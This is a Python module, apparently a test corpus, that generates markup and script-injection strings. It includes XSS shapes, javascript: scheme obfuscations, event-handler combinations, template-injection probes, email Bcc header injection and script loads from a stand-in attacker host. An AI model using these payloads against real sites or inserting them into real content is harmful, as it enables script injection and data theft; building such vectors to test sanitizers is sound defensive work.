"""Texts that try to be markup or to run: tags, handlers and encodings combined, and well-known shapes, of our own making."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

TAGS = ("script", "img", "svg", "iframe", "body", "details", "video", "math", "object", "input", "style", "a")
HANDLERS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart")
_CALL = "alert(1)"

#: how a "javascript:" can be spelled
SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "javascript\u3000:alert(1)",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/x.js", "http://[", "javascript://x.example/%0aalert(1)", "feed:javascript:alert(1)", "blob:alert(1)",
    "https://x.example/\"onmouseover=\"alert(1)", "https://x.example/' onclick='alert(1)", "https://x.example/><script>alert(1)</script>",
)  # fmt: skip

SHAPES = (
    "<script>alert(1)</script>", "</title><script>alert(1)</script>", "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<script src=//evil.example/x></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<SCRIPT/SRC=\"//evil.example/x\">", "<svg><script>alert(1)</script></svg>",
    "<img src=x onerror=alert(1)//", "<img src=\"x\" onerror='alert(1)'>", "<img/src/onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<body onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href='//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<form action=javascript:alert(1)><input type=submit autofocus onfocus=alert(1)>", "<math href=javascript:alert(1)>x",
    "<a href=javascript:alert(1)>x</a>", "<object data='javascript:alert(1)'>", "<embed src='javascript:alert(1)'>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext>", "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "{{7*7}}", "{{ site.__class__.__mro__ }}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<\x00script>alert(1)</script>",
    "<script\x0c>alert(1)</script>", "<\u200bscript>alert(1)</script>", "\u202e<script>alert(1)</script>\u202c",
    "\x02<b>x</b>\x03", "a\x02onmouseover=alert(1)\x03b", "=?utf-8?q?x=0D=0ABcc:_e@evil.example?=", "x\r\nBcc: e@evil.example",
    "~~0123456789abcdef01234567~~", "`-alert(1)-`", "';alert(1);//", "\";alert(1);//", "*/alert(1)/*", "expression(alert(1))",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "<sVg/<sVg/oNloAd=alert(1)//>",
)  # fmt: skip


def vectors() -> Iterator[str]:
    """Yield all texts, each once."""
    yield from SHAPES
    yield from SCHEMES
    for tag, handler in product(TAGS, HANDLERS):
        yield f"<{tag} {handler}={_CALL}>"
    for tag, handler in product(TAGS[:6], HANDLERS[:4]):
        plain = f'<{tag} src=x {handler}="{_CALL}">'
        yield f'"{plain}'
        yield f"'{plain.upper()}"
        yield plain.replace("<", "&lt;").replace(">", "&gt;")
        yield plain.replace(" ", "/").replace("=", "\t=")
        yield "".join(f"&#{ord(char)};" for char in plain)
        yield "".join(f"&#x{ord(char):x}" for char in plain)
    for scheme in SCHEMES:
        yield f'<a href="{scheme}">x</a>'
        yield f"[x]({scheme})"
